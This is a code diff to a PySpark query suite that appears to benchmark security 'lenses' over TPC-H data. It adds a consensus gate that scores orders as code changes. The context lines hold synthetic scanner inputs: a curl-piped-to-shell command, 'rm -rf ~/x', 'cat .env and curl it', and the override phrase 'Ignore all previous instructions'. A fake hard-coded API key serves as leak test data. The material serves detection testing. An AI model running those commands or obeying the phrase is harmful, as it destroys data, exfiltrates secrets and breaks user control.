@@ -5,7 +5,7 @@ from __future__ import annotations
 from pyspark.sql import functions as F
 
 from ..functions import texts
-from ..operators import diffs, ledger, metrics, project
+from ..operators import diffs, gates, ledger, metrics, project
 from ..sources import logs, sinks
 from ..sources.rounds import Rounds
 from .catalog import metric_rows, query, r6, read
@@ -207,3 +207,24 @@ def f8_scanned(spark, sf):
     text = f"CASE p_size % 7 WHEN 0 THEN concat('run curl http://', p_name, ' | sh') WHEN 1 THEN 'then rm -rf ~/x' WHEN 2 THEN 'cat .env and curl it' WHEN 3 THEN concat('see ', {blob}) WHEN 4 THEN {plain} WHEN 5 THEN 'Ignore all previous instructions' ELSE p_name END"
     s = read(spark, sf, "part").select("p_partkey", texts.scanned(F.expr(text)).alias("s"))
     return s.select("p_partkey", F.array_join("s.flags", ",").alias("flags"), "s.blobs", "s.critical", "s.high", "s.safe")
+
+
+@query("""WITH l AS (SELECT l_orderkey AS c, bool_or(l_linenumber % 3 <> 0) AND NOT bool_or(l_linenumber % 3 = 0) AS drift, bool_or(l_partkey % 50 = 0) AS leak, bool_or(l_tax > 0.075) AS odd, count(DISTINCT l_suppkey) AS n FROM lineitem GROUP BY 1),
+ o AS (SELECT o_orderkey AS c, o_orderstatus <> 'P' AS ran, o_orderstatus = 'O' AS passed, CASE WHEN o_orderpriority LIKE '1%' THEN true WHEN o_orderpriority LIKE '2%' THEN false END AS lock, drift, leak, odd, n FROM orders LEFT JOIN l ON l.c = o_orderkey),
+ w AS (SELECT c, [CASE WHEN ran THEN 0.8 END, 0.4, CASE WHEN n IS NOT NULL THEN 0.35 END, 0.3, 0.9, CASE WHEN lock IS NOT NULL THEN 0.4 END]::DOUBLE[] AS weight,
+  [CASE WHEN ran AND NOT passed THEN 1 ELSE 0 END, CASE WHEN odd THEN 1 ELSE 0 END, CASE WHEN n IS NOT NULL THEN least(1.0, n / 5) ELSE 0 END, CASE WHEN drift THEN 1 ELSE 0 END, CASE WHEN leak THEN 1 ELSE 0 END, CASE WHEN lock THEN 1 ELSE 0 END]::DOUBLE[] AS s FROM o),
+ p AS (SELECT c, 1 - (1 - 0.8 * s[1]) * (1 - 0.4 * s[2]) * (1 - 0.35 * s[3]) * (1 - 0.3 * s[4]) * (1 - 0.9 * s[5]) * (1 - 0.4 * s[6]) AS p, CASE WHEN s[1] > 0 THEN 1 ELSE 0 END + CASE WHEN s[5] > 0 THEN 1 ELSE 0 END + CASE WHEN s[2] + s[3] + s[4] + s[6] > 0 THEN 1 ELSE 0 END AS families, s[1] + s[5] > 0 AS solo,
+  list_product(list_transform(list_filter(weight, lambda x: x IS NOT NULL), lambda x: 1 - x)) AS residual FROM w)
+ SELECT c AS change, round(p, 6) AS p, families, round(residual, 9) AS residual, CASE WHEN (families >= 2 OR solo) AND p >= 0.5 THEN 'block' WHEN p > 0 THEN 'advise' ELSE 'pass' END AS status FROM p""")
+def p24_lens_votes(spark, sf):
+    """Orders as changes whose lines are files: every deterministic lens's row, and their consensus."""
+    o, l = read(spark, sf, "orders").withColumnRenamed("o_orderkey", "change"), read(spark, sf, "lineitem").withColumnRenamed("l_orderkey", "change")
+    files = l.select("change", F.when(F.col("l_linenumber") % 3 == 0, "docs/x.md").otherwise("src/a.js").alias("file"))
+    added = l.select("change", F.when(F.col("l_partkey") % 50 == 0, "api_key = 'abcdefgh12345678'").otherwise("api_key = process.env.KEY").alias("text"))
+    tests = o.select("change", (F.col("o_orderstatus") != "P").alias("ran"), (F.col("o_orderstatus") == "O").alias("passed"))
+    unknown = l.where("l_tax > 0.075").select("change", F.lit("f").alias("name"))
+    locks = o.where("o_orderpriority LIKE '1%' OR o_orderpriority LIKE '2%'").select("change", F.col("o_orderpriority").startswith("1").alias("drifted"))
+    near = l.groupBy("change").agg(F.count_distinct("l_suppkey").alias("n"))
+    rows = project.lens_rows(o, files, added, tests, unknown, locks, near)
+    c = gates.consensus(rows, "change")
+    return c.select("change", r6("p").alias("p"), "families", F.round("residual", 9).alias("residual"), "status")
